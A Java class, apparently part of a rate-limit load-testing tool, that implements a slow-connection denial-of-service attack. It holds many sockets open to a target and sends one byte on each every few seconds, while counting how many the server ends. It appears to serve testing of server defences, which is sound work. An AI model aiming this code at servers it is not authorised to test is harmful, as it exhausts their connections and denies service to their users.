package io.github.ratelimit.content.load;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.concurrent.locks.LockSupport;
import java.util.function.BooleanSupplier;

/** Holds connections open, sends a byte on each every few seconds, and reads nothing. */
final class ConnectionsThatAreHeld implements Attack {
    private static final int PAUSES_OF_A_ROUND = 40;
    private static final long PAUSE_NANOS = 100_000_000L;
    private static final int PATIENCE_MILLIS = 5_000;

    private final String name;
    private final URI base;
    private final String from;
    private final int most;
    private final byte[] first;
    private int opened;
    private int ended;

    ConnectionsThatAreHeld(String name, URI base, String from, int most, byte[] first) {
        this.name = name;
        this.base = base;
        this.from = from;
        this.most = most;
        this.first = first;
    }

    @Override
    public void until(BooleanSupplier isOver) {
        Deque<Socket> held = new ArrayDeque<>();
        while (!isOver.getAsBoolean()) {
            for (int i = held.size(); i > 0; i--) {
                Socket one = held.remove();
                if (isAlive(one)) {
                    held.add(one);
                }
            }
            while (held.size() < most && !isOver.getAsBoolean() && open(held)) {
                opened++;
            }
            for (int i = 0; i < PAUSES_OF_A_ROUND && !isOver.getAsBoolean(); i++) {
                LockSupport.parkNanos(PAUSE_NANOS);
            }
        }
        held.forEach(ConnectionsThatAreHeld::close);
    }

    private boolean isAlive(Socket socket) {
        try {
            if (first.length > 0) {
                socket.getOutputStream().write(' ');
            }
            return true;
        } catch (IOException closed) {
            ended++;
            close(socket);
            return false;
        }
    }

    private boolean open(Deque<Socket> held) {
        Socket socket = new Socket();
        try {
            socket.setReceiveBufferSize(4096);
            socket.bind(new InetSocketAddress(from, 0));
            socket.connect(new InetSocketAddress(base.getHost(), base.getPort()), PATIENCE_MILLIS);
            socket.getOutputStream().write(first);
            held.add(socket);
            return true;
        } catch (IOException refused) {
            ended++;
            close(socket);
            return false;
        }
    }

    private static void close(Socket socket) {
        try {
            socket.close();
        } catch (IOException e) {
            // Nothing is left to be done with it.
        }
    }

    @Override
    public String name() {
        return name;
    }

    @Override
    public long requests() {
        return opened;
    }

    @Override
    public long bytes() {
        return (long) opened * first.length;
    }

    @Override
    public boolean isMade() {
        return opened > 0;
    }

    @Override
    public String answers() {
        return "%d opened, %d ended by the server".formatted(opened, ended);
    }
}
